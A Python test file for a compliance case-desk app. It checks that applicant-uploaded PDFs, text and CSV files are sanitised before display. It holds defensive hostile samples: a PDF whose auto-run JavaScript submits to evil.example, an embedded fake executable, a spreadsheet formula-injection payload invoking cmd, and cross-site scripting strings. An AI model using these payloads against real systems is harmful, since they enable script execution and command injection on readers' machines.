"""What an applicant gave is read on the page of the case; whatever is hidden in it does nothing."""

import io
from hashlib import sha256
from pathlib import Path

import pymupdf
import pypdf
import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from compliance.queries.label.shown import LINES, plain, read
from infra.database import fetch_value
from infra.i18n import LANGUAGES
from infra.settings import settings
from infra.storage import Store
from services.documents import pdf_anew
from services.documents.pdf_anew import anew, written_anew
from tests.cast import AIGERIM, ALTYN, OFFICER, SECOND_ASSESSOR
from tests.compliance.labels.at_desk import at_desk
from tests.pages.client import words
from tests.pages.inside import There

RUNS = "app.alert('ran'); this.submitForm('https://evil.example/')"


def script(said: str = RUNS) -> DictionaryObject:
    return DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(said),
    })  # fmt: skip


def hostile() -> bytes:
    """A PDF of three pages with scripts, a link, a form, and a program inside."""
    document = pymupdf.open()
    for number in range(3):
        page = document.new_page(width=300, height=200)
        page.insert_text((40, 100), f"PAGE {number}", fontsize=24)
        page.insert_link({"kind": pymupdf.LINK_URI, "from": page.rect, "uri": "https://evil.example/link"})
    document.embfile_add("evil.exe", b"MZ evil program")
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(document.tobytes()))
    root = writer.root_object
    root[NameObject("/OpenAction")] = script()
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): script()})
    root[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): script()}
    )
    for page in writer.pages:
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script()})
        page["/Resources"][NameObject("/Evil")] = DictionaryObject({NameObject("/AA"): script()})
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def test_the_pages_are_there_and_nothing_else_of_a_hostile_pdf() -> None:
    given, made = hostile(), anew(hostile())
    for evil in (b"JavaScript", b"submitForm", b"/OpenAction", b"/AcroForm", b"/EmbeddedFile", b"/AA"):
        assert evil in given
        assert evil not in made
    with pymupdf.open(stream=made) as document:
        assert [page.get_text().strip() for page in document] == ["PAGE 0", "PAGE 1", "PAGE 2"]
        assert document[0].rect == pymupdf.Rect(0, 0, 300, 200)
        assert not document.embfile_count()
        assert not [link for page in document for link in page.get_links()]


def locked() -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(hostile()))
    writer.encrypt("secret")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


@pytest.mark.parametrize("content", [b"%PDF-1.7 nothing follows", b"", b"<script>alert(1)</script>", locked()],
                         ids=["broken", "empty", "page", "locked"])  # fmt: skip
async def test_what_cannot_be_read_is_not_shown(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "given"
    path.write_bytes(content)
    assert await written_anew(path) is None


async def test_a_file_that_takes_too_long_or_is_too_large_is_not_shown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "given"
    path.write_bytes(hostile())
    assert await written_anew(path) is not None
    monkeypatch.setattr(pdf_anew, "SECONDS", 0.01)
    assert await written_anew(path) is None
    monkeypatch.setattr(pdf_anew, "SECONDS", 15)
    monkeypatch.setattr(pdf_anew, "MOST_BYTES", 10)
    assert await written_anew(path) is None


def test_text_hides_nothing_and_a_table_computes_nothing() -> None:
    assert plain("a\u202etxt.exe\x00\u200bb\r\nc") == "a\ufffdtxt.exe\ufffd\ufffdb\nc"
    assert read(b"\xff\xfe broken", "text/plain").text == "\ufffd\ufffd broken"
    rows = read("\ufeffАты;Саны\n=cmd|' /C calc'!A0;2\n\"<b>бір\nекі</b>\";3\n".encode(), "text/csv").rows
    assert rows == (("Аты", "Саны"), ("=cmd|' /C calc'!A0", "2"), ("<b>бір\nекі</b>", "3"))
    assert read(b'a,"' + b"x" * 300_000, "text/csv").rows  # a cell without an end
    assert read(b"x\n" * (LINES + 5), "text/plain").is_cut
    assert read(b"x", "text/plain", cut=True).is_cut
    assert not read(b"x\n", "text/plain").is_cut


async def given(case: int, name: str, media_type: str, content: bytes) -> int:
    """A file that the applicant gave."""
    digest = sha256(content).hexdigest()
    path = Store(settings().evidence_dir).path(digest)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return int(await fetch_value(
        """insert into label_document (organisation, application, name, media_type, sha256, size, added_by, added_at)
           values ($1, $2, $3, $4, $5, $6, $7, now()) returning id""",
        ALTYN.bin, case, name, media_type, digest, len(content), AIGERIM.id,
    ))  # fmt: skip


@pytest.mark.parametrize("language", LANGUAGES)
async def test_pages_of_a_pdf_text_and_tables_stand_on_the_page_of_the_case(there: There, language: str) -> None:
    case = await at_desk()
    await there.enter(OFFICER)
    home = f"/{language}/desk/label/cases/{case}"
    text = await given(case, "a.txt", "text/plain", "<script>alert('мәтін')</script>".encode())
    page = await there.visit(f"{home}?document={text}")
    assert words(page.one("pre")) == "<script>alert('мәтін')</script>"
    table = await given(case, "a.csv", "text/csv", b"a,b\n=1+1,<img src=x onerror=alert(1)>\n")
    page = await there.visit(f"{home}?document={table}")
    assert [words(cell) for cell in page.all("td")] == ["a", "b", "=1+1", "<img src=x onerror=alert(1)>"]
    pdf = await given(case, "a.pdf", "application/pdf", hostile())
    page = await there.visit(f"{home}?document={pdf}")
    answer = await there.visit.client.get(str(page.one("iframe").get("src")))
    assert answer.headers["content-type"] == "application/pdf"
    assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'; frame-ancestors 'self'"
    assert b"JavaScript" not in answer.content
    for wrong in (text, table):  # only a PDF is framed
        assert (await there.visit.client.get(f"{home}/documents/{wrong}/shown")).status_code == 404
    broken = await given(case, "b.pdf", "application/pdf", b"%PDF-1.7 <script>alert(1)</script>")
    answer = await there.visit.client.get(f"{home}/documents/{broken}/shown")
    assert answer.headers["content-type"].startswith("text/plain")
    assert "script" not in answer.text


async def test_whom_the_case_is_not_open_to_is_shown_no_page_of_it(there: There) -> None:
    case = await at_desk()
    pdf = await given(case, "a.pdf", "application/pdf", hostile())
    await there.enter(SECOND_ASSESSOR)
    answer = await there.visit.client.get(f"/en/desk/label/cases/{case}/documents/{pdf}/shown")
    assert answer.status_code == 404
